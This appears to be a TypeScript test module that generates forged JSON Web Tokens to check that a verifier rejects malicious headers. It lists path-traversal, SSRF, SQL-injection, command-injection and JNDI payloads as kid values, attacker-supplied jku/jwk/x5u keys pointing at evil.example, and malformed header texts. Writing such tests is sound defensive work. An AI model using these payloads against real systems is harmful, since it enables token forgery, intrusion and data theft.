// T04 to T06: what an attacker writes into the header besides `alg`.
import { generateKeyPairSync } from 'node:crypto';
import { type Forgery, forge, signedBy, type Target } from './forge.ts';

const files = [
  'etc/passwd',
  'dev/null',
  'proc/self/environ',
  'proc/sys/kernel/randomize_va_space',
  'keys.pem',
];
const climbs = [
  '',
  '/',
  './',
  '../',
  '../../',
  '../../../../../../',
  '..\\..\\',
  '%2e%2e%2f',
  '....//',
  '..;/',
];
const schemes = [
  'file:///',
  'http://127.0.0.1/',
  'https://[::1]/',
  'http://169.254.169.254/',
  'ftp://evil.example/',
];
const furtherSchemes = [
  'gopher://127.0.0.1:5432/_',
  'ldap://evil.example/',
  'jar:http://evil.example!/',
  'data:,',
];
const statements = [
  "' OR 1=1--",
  "' OR '1'='1",
  "'; drop table keys;--",
  "x' UNION SELECT 'AA==",
  "' UNION SELECT public_jwk FROM keys--",
  '" OR ""="',
  "'||pg_sleep(5)||'",
  "'; select pg_sleep(5);--",
  '$1',
  "E'\\x27'",
  '%27%20OR%201=1',
  "admin'/*",
];
const commands = ['; id', '| id', '`id`', '$(id)', '&& sleep 5', `\${jndi:ldap://evil.example/a}`, '{{7*7}}'];
const names = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'size',
  'get',
  'has',
];
const endings = ['', '\u0000', '\n', '\r\n', ' ', '.pem', '?x', '#x', '\u202e', '/.'];
const otherTypes: unknown[] = [
  null,
  0,
  1,
  -1,
  1.5,
  true,
  false,
  [],
  [''],
  {},
  { $ne: null },
  [['x']],
  { toString: 'x' },
];

/** Five hundred key ids and more. All are signed by the real key, so that only the id is wrong. */
export function keyIds({ header, claims, kid, privateKey }: Target): Forgery[] {
  const paths = climbs.flatMap((climb) => files.map((file) => `${climb}${file}`));
  const urls = [...schemes, ...furtherSchemes].flatMap((scheme) => [scheme, `${scheme}jwks.json`]);
  const near = [
    kid.toUpperCase(),
    ` ${kid}`,
    `${kid}${kid}`,
    kid.slice(1),
    kid.slice(0, -1),
    `./${kid}`,
    `${kid},${kid}`,
    // An id of digits alone has no other case: it would be the key's own.
  ].filter((id) => id !== kid);
  const texts = [...paths, ...urls, ...statements, ...commands, ...names];
  const ended = texts.flatMap((text) => endings.map((ending) => `${text}${ending}`));
  const ours = endings.slice(1).flatMap((ending) => [`${kid}${ending}`, `${ending}${kid}`]);
  const long = [16, 17, 64, 1000, 2000].map((length) => 'a'.repeat(length));
  const ids: unknown[] = [
    ...ended,
    ...near,
    ...ours,
    ...long,
    '',
    '\ud800',
    '密钥',
    ...otherTypes,
    [kid],
    { kid },
  ];
  return [...ids, undefined].map((id) => ({
    name: `kid ${JSON.stringify(id)?.slice(0, 60)}`,
    token: forge({ ...header, kid: id }, claims, signedBy(privateKey)),
  }));
}

/** Longer than a query may be. */
export function longKeyId({ header, claims, privateKey }: Target): Forgery {
  return {
    name: 'kid of 10 kB',
    token: forge({ ...header, kid: 'a'.repeat(10_240) }, claims, signedBy(privateKey)),
  };
}

/** Headers that bring the attacker's own key along, or say where it is (CVE-2018-0114). */
export function keysBroughtAlong(target: Target, url: string): Forgery[] {
  const { header, claims, kid } = target;
  const own = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const jwk = { ...own.publicKey.export({ format: 'jwk' }), kid, alg: 'ES256', use: 'sig' };
  const certificate = own.publicKey.export({ format: 'der', type: 'spki' }).toString('base64');
  const members: Record<string, object> = {
    jwk: { jwk },
    'jwk without kid': { jwk, kid: undefined },
    'private jwk': { jwk: own.privateKey.export({ format: 'jwk' }) },
    jwks: { jwks: { keys: [jwk] } },
    jku: { jku: `${url}/jwks.json` },
    'jku and the kid of the attacker': { jku: `${url}/jwks.json`, kid: 'attacker' },
    x5u: { x5u: `${url}/certificate.pem` },
    x5c: { x5c: [certificate] },
    x5t: { x5t: 'AAAA', 'x5t#S256': 'AAAA' },
    'kid that is a URL': { kid: `${url}/jwks.json` },
    'iss in the header': { iss: url },
  };
  const issuer = {
    name: 'iss that is a URL',
    token: forge(header, { ...claims, iss: url }, signedBy(own.privateKey)),
  };
  const brought = Object.entries(members).flatMap(([name, more]) => [
    { name: `${name}, signed by it`, token: forge({ ...header, ...more }, claims, signedBy(own.privateKey)) },
    {
      name: `${name}, signed by us`,
      token: forge({ ...header, ...more }, claims, signedBy(target.privateKey)),
    },
  ]);
  return [...brought, issuer];
}

/** Extensions that a verifier must understand or refuse (RFC 7515, 4.1.11), and members that we do not write. */
export function furtherMembers({ header, claims, privateKey }: Target): Forgery[] {
  const crits = [
    ['exp'],
    ['x'],
    [],
    'x',
    ['b64'],
    ['alg'],
    ['crit'],
    null,
    {},
    true,
    0,
    ['x', 'x'],
    [''],
    [1],
  ];
  const members: object[] = [
    ...crits.map((crit) => ({ crit })),
    { crit: ['exp'], exp: 4_102_444_800 },
    { crit: ['x'], x: true },
    { crit: ['b64'], b64: true },
    { b64: true },
    { b64: false },
    { zip: 'DEF' },
    { enc: 'A256GCM' },
    { cty: 'JWT' },
    { cty: 'json' },
    { use: 'sig' },
    { nonce: 'x' },
    { url: 'https://evil.example' },
    { exp: 4_102_444_800 },
    { role: 'admin' },
  ];
  return members.map((more) => ({
    name: `header member ${JSON.stringify(more)}`,
    token: forge({ ...header, ...more }, claims, signedBy(privateKey)),
  }));
}

/** The same members in another order, repeated, spaced or spelt otherwise: all signed by the real key. */
export function headerTexts({ header, claims, kid, privateKey }: Target): Forgery[] {
  const text = JSON.stringify(header);
  const inner = text.slice(1, -1);
  const texts: Record<string, string | Buffer> = {
    'alg twice, none first': `{"alg":"none",${inner}}`,
    'alg twice, none last': `{${inner},"alg":"none"}`,
    'alg twice, the same': `{"alg":"ES256",${inner}}`,
    'kid twice': `{${inner},"kid":"${kid}"}`,
    'typ twice': `{"typ":"x",${inner}}`,
    'an escaped name': `{${inner.replace('alg', '\\u0061lg')}}`,
    'an escaped value': `{${inner.replace('ES256', '\\u0045S256')}}`,
    'spaces inside': `{ ${inner} }`,
    'a line break behind it': `${text}\n`,
    'a space before it': ` ${text}`,
    'a BOM before it': `\uFEFF${text}`,
    'a NUL behind it': `${text}\u0000`,
    'a comma too many': `{${inner},}`,
    'a comment': `{/**/${inner}}`,
    'single quotes': text.replaceAll('"', "'"),
    'two objects': `${text}${text}`,
    'an array around it': `[${text}]`,
    'a text around it': JSON.stringify(text),
    'UTF-16': Buffer.from(text, 'utf16le'),
    'bytes that are no UTF-8': Buffer.concat([
      Buffer.from(`{"x":"`),
      Buffer.of(0xff),
      Buffer.from(`",${inner}}`),
    ]),
    'only a brace': '{',
    null: 'null',
    nothing: '',
    'no member': '{}',
    'a prototype': `{"__proto__":{"alg":"ES256"},${inner}}`,
    'a constructor': `{"constructor":{},${inner}}`,
  };
  return Object.entries(texts).map(([name, spelt]) => ({
    name: `header with ${name}`,
    token: forge(spelt, claims, signedBy(privateKey)),
  }));
}
